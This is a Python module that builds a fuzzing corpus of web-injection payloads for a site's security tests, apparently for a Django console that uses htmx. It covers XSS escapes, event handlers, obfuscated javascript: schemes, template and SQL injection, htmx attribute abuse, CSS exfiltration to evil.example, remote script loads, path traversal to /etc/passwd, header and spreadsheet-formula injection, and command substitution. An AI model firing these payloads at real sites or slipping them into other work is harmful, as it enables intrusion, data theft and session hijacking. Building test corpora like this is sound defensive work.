# ruff: noqa: E501 - a payload is as long as it is
"""What attackers write where a name or a text is asked for: made by rule, and a list by hand.

``payloads.txt`` holds them all, one a line as a JSON string, so that line feeds and what nobody sees stay what they are.
After a change here: ``python -m tests.web.security.payloads``. A test holds the two together.

By rule: every way out of a place in a page (a text, a quoted value, a text field, a title, a comment, a script, a style)
with every thing that would then run; every event on an element that fires it; every scheme in every disguise; every
disguise of one script. By hand: what does not fit a rule.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from html import escape
from pathlib import Path
from urllib.parse import quote

FILE = Path(__file__).with_name("payloads.txt")
RUN = "alert(1)"

WAYS_OUT = (
    "", '">', "'>", "`>", ">", '" ', "' ", "</textarea>", "</title>", "</option></select>", "</script>", "</style>",
    "-->", "]]>", "</bdi></td></tr></table>", "</p></div></main>", "\\\">", "&quot;>", "\n\n", "\x0b>",
)  # fmt: skip
THINGS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Sign in</button>",
)
EVENTS = {
    "body": ("load", "pageshow", "hashchange", "resize", "scroll", "focus", "message", "storage", "beforeunload"),
    "input autofocus": ("focus", "blur", "input", "change", "select", "keydown", "paste", "invalid", "beforeinput"),
    "video src=x": ("error", "loadstart", "canplay", "play", "timeupdate", "volumechange", "ratechange", "stalled"),
    "div": (
        "click", "dblclick", "mouseover", "mouseenter", "mousemove", "pointerover", "pointerdown", "touchstart", "wheel",
        "contextmenu", "copy", "cut", "drag", "drop", "auxclick", "animationstart", "transitionend", "gotpointercapture",
    ),
    "svg": ("load", "begin", "end", "repeat", "focusin", "focusout"),
    "details": ("toggle", "beforetoggle"),
    "form": ("submit", "reset", "formdata"),
    "marquee": ("start", "bounce", "finish"),
    "button popovertarget=x": ("click", "beforetoggle"),
}  # fmt: skip
SCHEMES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"\tjavascript:{RUN}", f"java\nscript:{RUN}",
    f"java\tscript:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"\x01javascript:{RUN}",
    f"javascript://%0a{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={RUN}>",
    f"blob:javascript:{RUN}", "//evil.example", "\\\\evil.example", "https:evil.example", f"view-source:javascript:{RUN}",
)  # fmt: skip
CARRIERS = (
    '<a href="{}">x</a>', "<iframe src='{}'>", '<form action="{}"><input type=submit>', "<button formaction={}>x",
    '<svg><a xlink:href="{}"><text y=9>x</text></a>', "<object data='{}'>", "<embed src='{}'>", "<area href='{}'>",
    '<math href="{}">x</math>', "<link rel=stylesheet href='{}'>", "{}",
)  # fmt: skip
DISGUISES = (
    lambda text: escape(text),
    lambda text: "".join(f"&#{ord(c)};" for c in text),
    lambda text: "".join(f"&#x{ord(c):x};" for c in text),
    lambda text: "".join(f"&#{ord(c):07d}" for c in text),
    lambda text: quote(text),
    lambda text: quote(quote(text)),
    lambda text: "".join(f"\\u{ord(c):04x}" for c in text),
    lambda text: "".join(f"\\x{ord(c):02x}" for c in text),
    lambda text: "".join(chr(ord(c) + 0xFEE0) if 0x21 <= ord(c) <= 0x7E else c for c in text),
    lambda text: text.replace("<", "\u2039").replace(">", "\u203a"),
    lambda text: text.replace("<", "\u02c2"),
    lambda text: "\ufeff" + text,
    lambda text: "\u202e" + text + "\u202c",
    lambda text: "\u2067" + text,
    lambda text: "\u200b".join(text),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\x0c"),
    lambda text: text.replace("<", "<\x7f"),
    lambda text: text.swapcase(),
    lambda text: text * 5,
    lambda text: text.replace(">", ""),
    lambda text: "\x1b[31m" + text,
    lambda text: "+ADw-" + text[1:-1] + "+AD4-",
    lambda text: "\xc0\xbc" + text[1:],
)
DISGUISED = (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>")

BY_HAND = (
    # Templates, ours and others'
    "{{7*7}}", "{{ 7|add:7 }}", "{% debug %}", "{% load static %}{% static 'x' %}", "{{ settings.SECRET_KEY }}",
    "{% include 'console/case.html' %}", "{% csrf_token %}", "{# #}", "{% extends 'x' %}", "{% autoescape off %}<b>",
    "{{ request.user.password }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${{7*7}}", "{7*7}", "@(7*7)", "*{7*7}",
    "{{constructor.constructor('alert(1)')()}}", "{{''.__class__.__mro__}}", "%(minutes)s", "%s%s%s%n", "{0}{1}", "{}",
    "%(handle)s", "{user.password}", "$(sleep 1)", "`sleep 1`", "; drop table casework_case; --", "' OR '1'='1",
    # htmx, which the console loads: an attribute of its own is as good as a script
    "<div hx-get='//evil.example' hx-trigger='load'>", "<i data-hx-post=/cases/1/decide hx-trigger=load>",
    "<b hx-on:click=alert(1)>x", "<b hx-on::load='alert(1)'>x", "<p hx-vals='js:{a:alert(1)}' hx-get=/ hx-trigger=load>",
    "<div hx-ext=x hx-boost=true><a href=//evil.example>x</a></div>", "<p hx-swap-oob=true id=content>x",
    "<meta name=htmx-config content='{\"allowEval\":true}'>", "<i data-key=a data-scope>x", "<i data-dialog=approve>x",
    "<ul data-taken='case-1'>", "<form data-draft=x>", "<button data-key=n formaction=//evil.example>",
    # Half open
    "<", "<<", "<!", "<!-", "<!--", "<?", "<?xml", "</", "<a", "<a href", "<a href=", "<a href='", '<img src="', "<img \"",
    "<script", "<script>", "</script", "<style", "<textarea>", "<title>", "<plaintext>", "<xmp>", "<noscript>", "<template>",
    "<table>", "<select>", "<svg>", "<math>", "<frameset>", "<noembed>", "<!DOCTYPE html>", "<![CDATA[", "<![CDATA[<b>]]>",
    "&", "&lt", "&lt;", "&#", "&#x", "&#60", "&#x3c", "&amp;lt;script&amp;gt;", "&nosuch;", "&lbrace;&lbrace;7*7&rbrace;&rbrace;",
    # What a second reading of the page would change (mutation)
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<svg><desc><noscript>&lt;/noscript&gt;&lt;script&gt;alert(1)&lt;/script&gt;", "<table><td><svg></table><script>alert(1)</script>",
    "<p id='</p><script>alert(1)</script>'>", "<a title='&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>", "<textarea>&lt;/textarea&gt;<script>",
    "<image src=x onerror=alert(1)>", "<isindex action=javascript:alert(1) type=image>", "<keygen autofocus onfocus=alert(1)>",
    # SVG and MathML
    "<svg><script>alert&#40;1&#41;</script>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>", "<svg><image href=x onerror=alert(1)>", "<svg><style>@import'//evil.example'",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x", "<math><mi xlink:href='data:text/html,x'>x",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x", "<svg><discard onbegin=alert(1)>",
    # Style
    "<style>*{display:none}</style>", "<style>@import '//evil.example/x.css';</style>", "<p style='background:url(//evil.example)'>",
    "<div style=position:fixed;inset:0;background:red>", "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "}</style><script>alert(1)</script>", "expression(alert(1))",
    "<p style='x:expression(alert(1))'>", "<p style=\"behavior:url(#x)\">", "<div class=said hidden>", "<p class=\"problem\" role=alert>Sign in again",
    # What loads, frames, redirects and reads along
    "<img src=//evil.example/p.gif>", "<img srcset='//evil.example 1x'>", "<picture><source srcset=//evil.example>", "<video poster=//evil.example>",
    "<audio src=//evil.example autoplay>", "<track src=//evil.example>", "<input type=image src=//evil.example>", "<object data=//evil.example>",
    "<embed src=//evil.example>", "<iframe src=//evil.example></iframe>", "<frame src=//evil.example>", "<portal src=//evil.example>",
    "<link rel=prefetch href=//evil.example>", "<link rel=dns-prefetch href=//evil.example>", "<a ping=//evil.example href=/>x</a>",
    "<body background=//evil.example>", "<table background=//evil.example>", "<applet code=x>", "<bgsound src=//evil.example>",
    "<html manifest=//evil.example>", "<script src=//evil.example/x.js></script>", "<script type=module>import '//evil.example/x.js'</script>",
    "<script type=importmap>{\"imports\":{}}</script>", "<script type=speculationrules>{}</script>", "<fencedframe>",
    "<meta charset=utf-7>", "<meta name=referrer content=unsafe-url>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta http-equiv=Set-Cookie content='sessionid=x'>", "<base target=_blank>", "<img name=getElementById>", "<form id=x><input name=attributes>",
    "<a id=keys-on>", "<input id=keys-on>", "<a id=said name=said>", "<input form=x formmethod=get>", "<button form=x formaction=//evil.example>",
    "<input type=hidden name=csrfmiddlewaretoken value=x>", "<input name=verb value=approve>", "<dialog open>Your session is over</dialog>",
    "<dialog open><form method=dialog>", "<div popover id=x>", "<slot>", "<div is=x>", "<x-y onclick=alert(1)>", "<div contenteditable onfocus=alert(1) tabindex=0 autofocus>",
    # Strange letters, long ones, and what turns the row round
    "\ufeffBOM", "\u202eevael ot toN", "\u2066\u2067\u2068", "\u200f\u200e\u061c", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306" * 20,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30, "\ufdfd" * 80, "\U00012031" * 100, "\u0e49" * 200, "W" * 600, "x" * 96 + "\u202e" + "y" * 96,
    "\u1680\u2003\u3000x", "\u115f\u3164x", "\ufff9x\ufffa\ufffb", "\U000e0041\U000e0042x", "\ufffe\uffffx", "\x7f\x80\x9fx", "\x08\x08\x08x",
    "x\r\nSet-Cookie: sessionid=x", "x\r\n\r\n<script>alert(1)</script>", "x\u2028alert(1)\u2029", "x\x85y", "\x1b]0;title\x07x", "=1+1", "=HYPERLINK(\"//evil.example\")",
    "@SUM(1+1)|cmd", "-1+1", "+1+1", "../../../../etc/passwd", "..%2f..%2fsecret.key", "file:///etc/passwd", "CON", "NaN", "null", "None", "true", "-0", "1e999",
    "[object Object]", "__proto__", "constructor", "../admin", "?next=//evil.example", "#<script>", "%00", "%0d%0aSet-Cookie:x", "\\", "\\\\\"", "'\"`", "//", "/*", "*/",
)  # fmt: skip


def by_rule() -> Iterator[str]:
    """Every way out with every thing, every event, every scheme in every carrier, every disguise."""
    yield from (f"{way}{thing}" for way in WAYS_OUT for thing in THINGS)
    yield from (f"<{element} on{event}={RUN}>" for element, events in EVENTS.items() for event in events)
    yield from (f'" on{event}="{RUN}' for events in EVENTS.values() for event in events)
    yield from (carrier.format(scheme) for carrier in CARRIERS for scheme in SCHEMES)
    yield from (disguise(text) for disguise in DISGUISES for text in DISGUISED)


def corpus() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys([*BY_HAND, *by_rule()]))


def kept() -> list[str]:
    """As they stand in the file."""
    return [json.loads(line) for line in FILE.read_text(encoding="utf-8").splitlines()]


def write() -> None:
    FILE.write_text("".join(f"{json.dumps(each)}\n" for each in corpus()), encoding="utf-8")


if __name__ == "__main__":
    write()
